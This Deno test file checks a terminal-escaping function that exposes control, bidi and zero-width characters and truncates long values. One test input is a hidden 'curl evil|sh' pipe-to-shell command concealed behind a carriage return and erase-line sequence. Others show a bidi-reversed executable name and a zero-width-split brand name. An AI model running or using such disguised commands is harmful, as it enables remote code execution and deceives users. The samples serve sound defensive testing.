import assert from "node:assert/strict";
import { escapeForTerminal } from "../../src/protocol/mod.ts";

Deno.test("escapeForTerminal() shows control, bidi and invisible characters as escapes", () => {
  const cases: [string, string, string][] = [
    ["plain text stays", "wants to run ls -la /tmp", "wants to run ls -la /tmp"],
    ["CR and ESC sequences", "ls\r\x1b[2Kcurl evil|sh", "ls\\x0d\\x1b[2Kcurl evil|sh"],
    ["newline, tab, NUL, DEL", "a\nb\tc\0d\x7f", "a\\x0ab\\x09c\\x00d\\x7f"],
    ["C1 CSI", "a\x9b31mb", "a\\u{9b}31mb"],
    ["bidi override", "invoice\u202Efdp.exe", "invoice\\u{202e}fdp.exe"],
    ["bidi isolates", "\u2066x\u2069", "\\u{2066}x\\u{2069}"],
    ["zero-width", "pay\u200Bpal\uFEFF", "pay\\u{200b}pal\\u{feff}"],
    ["line separator", "a\u2028b", "a\\u{2028}b"],
    ["lone surrogate", "a\uD800b", "a\\u{d800}b"],
    ["backslash kept", "C:\\Users", "C:\\Users"],
    ["non-ASCII letters stay", "Grüße 東京 🙂", "Grüße 東京 🙂"],
  ];
  for (const [name, input, expected] of cases) {
    assert.equal(escapeForTerminal(input), expected, name);
  }
});

Deno.test("escapeForTerminal() cuts long values with a marker counting what was left out", () => {
  assert.equal(escapeForTerminal("x".repeat(205)), `${"x".repeat(200)}…[5 more characters]`);
  assert.equal(escapeForTerminal("abcdef", { maxLength: 3 }), "abc…[3 more characters]");
  assert.equal(
    escapeForTerminal("\x1b\x1b\x1b", { maxLength: 2 }),
    "\\x1b\\x1b…[1 more character]",
  );
  assert.equal(escapeForTerminal("x".repeat(500), { maxLength: 0 }), "x".repeat(500));
});

Deno.test("escapeForTerminal() is idempotent", () => {
  const text = "a\x1b[1m\u202eb\\x1b" + "y".repeat(300);
  const once = escapeForTerminal(text, { maxLength: 0 });
  assert.equal(escapeForTerminal(once, { maxLength: 0 }), once);
});

Deno.test("escapeForTerminal() output holds no control, bidi or zero-width character", () => {
  let all = "";
  for (let cp = 0; cp < 0x3000; cp++) all += String.fromCodePoint(cp);
  const out = escapeForTerminal(all, { maxLength: 0 });
  // deno-lint-ignore no-control-regex
  assert.doesNotMatch(out, /[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f]/);
});

Deno.test("escapeForTerminal() escapes each hidden character on its own too", () => {
  const ranges: [number, number][] = [
    [0x00, 0x1f],
    [0x7f, 0x9f],
    [0xad, 0xad],
    [0x61c, 0x61c],
    [0x180e, 0x180e],
    [0x200b, 0x200f],
    [0x2028, 0x202e],
    [0x2060, 0x206f],
    [0xfe00, 0xfe0f],
    [0xfeff, 0xfeff],
    [0xfff9, 0xfffb],
    [0xe0001, 0xe007f],
    [0xe0100, 0xe01ef],
  ];
  for (const [from, to] of ranges) {
    for (let cp = from; cp <= to; cp++) {
      const out = escapeForTerminal(String.fromCodePoint(cp));
      assert.match(out, /^\\(x[0-9a-f]{2}|u\{[0-9a-f]+\})$/, cp.toString(16));
    }
  }
});
